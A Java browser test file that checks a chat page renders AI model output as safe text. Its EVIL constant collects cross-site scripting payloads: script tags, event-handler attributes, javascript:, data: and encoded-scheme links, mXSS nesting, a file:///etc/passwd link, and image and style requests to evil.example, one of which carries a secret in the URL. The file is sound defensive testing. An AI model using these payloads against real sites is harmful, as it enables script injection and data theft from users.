package dev.parley.page;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** Whatever a model says, it runs nothing, loads nothing and never stops the page. */
@ExtendWith(InChromium.class)
class SafeTextTest {

  private static final String EVIL =
      """
      <script>window.hacked = 1</script>

      text <script>window.hacked = 2</script> text <img src=x onerror="window.hacked = 3">

      <img src="http://evil.example/pixel.png" onload="window.hacked = 4">

      [click](javascript:window.hacked=5) [data](data:text/html,<script>window.hacked=6</script>)
      [vb](vbscript:x) [file](file:///etc/passwd) [enc](java&#x73;cript:window.hacked=7)
      [tab](java\tscript:window.hacked=8) [here](relative/path) [root](/v1/jobs) [id](#c=x)

      ![pixel](http://evil.example/?q=secret) ![data](data:image/svg+xml;base64,PHN2Zy8+)

      <iframe srcdoc="<script>parent.hacked = 9</script>"></iframe>

      <svg onload="window.hacked = 10"><style>@import url(http://evil.example/x.css)</style></svg>

      <style>body { background: url(http://evil.example/bg.png) }</style>
      <link rel=stylesheet href=http://evil.example/x.css><base href="http://evil.example/">
      <meta http-equiv=refresh content="0;url=http://evil.example/">
      <form action="http://evil.example/"><input name=message autofocus onfocus="window.hacked=11">

      <math><mtext><table><mglyph><style><img src=x onerror=window.hacked=12>

      [ref]: http://evil.example/ref "title"

      > quoted <video src="http://evil.example/v.mp4" autoplay></video>

      | <img src=http://evil.example/cell onerror=window.hacked=13> | b |
      |---|---|
      | <object data="http://evil.example/o"></object> | `<script>` |

      ```html"onmouseover="window.hacked=14
      <script>window.hacked = 15</script>
      ```
      """;

  @Test
  void nothingRunsAndNothingIsFetched(FakeParley parley, Page page) {
    page.open().requests();
    page.send(EVIL.strip().lines().findFirst().orElseThrow());
    FakeJob job = parley.accept().queued(1, 1000).started();
    // Bit by bit, so that every unfinished state is drawn as well.
    EVIL.lines().forEach(line -> job.says(line + "\n"));
    job.completed();
    page.awaitPresent(".figures").awaitContains(".prose", "window.hacked = 15");
    assertThat(page.js("return window.hacked ?? null")).isNull();
    assertThat(page.js("return window.violations")).as("nothing even tried").isEqualTo(List.of());
    assertThat(page.requests())
        .allSatisfy(url -> assertThat(url).startsWith(parley.address() + "/v1/jobs"));
    assertThat(page.text(".prose")).contains("<script>window.hacked = 1</script>", "<iframe");
    assertThat(page.text(".bubble")).isEqualTo("<script>window.hacked = 1</script>");
    assertThat(
            page.js(
                """
                return [...document.querySelectorAll('.prose *')].filter((e) =>
                  /^(script|img|iframe|svg|style|link|base|meta|form|input|object|video)$/i
                    .test(e.tagName) && !e.closest('button')
                  || [...e.attributes].some((a) => /^on|^style$|^src/i.test(a.name))
                ).map((e) => e.outerHTML)
                """))
        .isEqualTo(List.of());
  }

  @Test
  void onlyHarmlessLinksLeadAnywhere(FakeParley parley, Page page) {
    page.open();
    assertThat(
            page.module(
                """
                const { markdown } = await import('/js/text/markdown.js');
                const box = document.createElement('div');
                box.append(markdown(`
                  [a](http://a.example/?x=1&y=2) [b](https://b.example "title") [c](mailto:c@d.e)
                  [d](javascript:x) [e](data:text/html,x) [f](/v1/jobs) [g](ftp://g.example)
                  <http://auto.example> ![p](https://p.example/x.png) ![q](javascript:x)
                  [h](HTTPS://H.example) [i](//i.example) [j](#c=x)`));
                return [...box.querySelectorAll('a')].map((a) => [a.textContent,
                  a.getAttribute('href') ?? '-', a.target, a.rel].join(' ')).join('|');
                """))
        .asString()
        .isEqualTo(
            String.join(
                "|",
                "a http://a.example/?x=1&y=2 _blank noopener noreferrer",
                "b https://b.example _blank noopener noreferrer",
                "c mailto:c@d.e _blank noopener noreferrer",
                "d - _blank noopener noreferrer",
                "e - _blank noopener noreferrer",
                "f - _blank noopener noreferrer",
                "g - _blank noopener noreferrer",
                "http://auto.example http://auto.example _blank noopener noreferrer",
                "p https://p.example/x.png _blank noopener noreferrer",
                "q - _blank noopener noreferrer",
                "h HTTPS://H.example _blank noopener noreferrer",
                "i - _blank noopener noreferrer",
                "j - _blank noopener noreferrer"));
  }

  @Test
  void aMegabyteLeavesThePageResponsive(FakeParley parley, Page page) {
    page.open().send("Tell me everything");
    FakeJob job = parley.accept().queued(1, 1000).started();
    page.js(
        """
        window.drawnFrames = 0;
        const count = () => { window.drawnFrames += 1; requestAnimationFrame(count); };
        count();
        """);
    String table = "| a | b |\n|---|---|\n" + "| one cell | **another** one |\n".repeat(9_000);
    String code = "\n\n```text\n" + "a line of code that never ends\n".repeat(12_000);
    String prose = "\n```\n\n" + "Some *words* and `code` in a paragraph.\n\n".repeat(9_000);
    job.says(table).says(code).says(prose).says("The end.").completed();
    page.patiently().awaitPresent(".figures").awaitContains(".prose > .open", "The end.");
    assertThat(page.answer().length()).isGreaterThan(900_000);
    assertThat((Number) Objects.requireNonNull(page.js("return window.drawnFrames")))
        .as("frames in which the page could react: were it drawn in one go, there would be a few")
        .satisfies(frames -> assertThat(frames.intValue()).isGreaterThan(30));
  }

  @Test
  void strangeTextsAreShownWhole(FakeParley parley, Page page) {
    page.open();
    for (String text :
        List.of(
            "> ".repeat(5_000),
            "[".repeat(20_000),
            "*a **b ".repeat(3_000),
            "- ".repeat(4_000),
            "\n".repeat(512),
            "`".repeat(9_999),
            "| a ".repeat(4_000) + "\n|",
            "<".repeat(9_999),
            "👨‍👩‍👧‍👦🇨🇳".repeat(2_000),
            "مرحبا ".repeat(500) + "שלום")) {
      assertThat(page.module(DRAW.formatted(asScript(text))))
          .as(text.substring(0, 6))
          .isInstanceOf(Number.class)
          .satisfies(ms -> assertThat(((Number) ms).longValue()).isLessThan(4_000));
    }
  }

  @SuppressWarnings("InlineFormatString") // a script of many lines
  private static final String DRAW =
      """
      const { GrowingMarkdown } = await import('/js/text/growing.js');
      const growing = new GrowingMarkdown(document.createElement('div'), () => {});
      const start = performance.now();
      while (!growing.draw(%s, 0)) { await null; }
      return Math.round(performance.now() - start);
      """;

  private static String asScript(String text) {
    return new tools.jackson.databind.json.JsonMapper().writeValueAsString(text);
  }
}
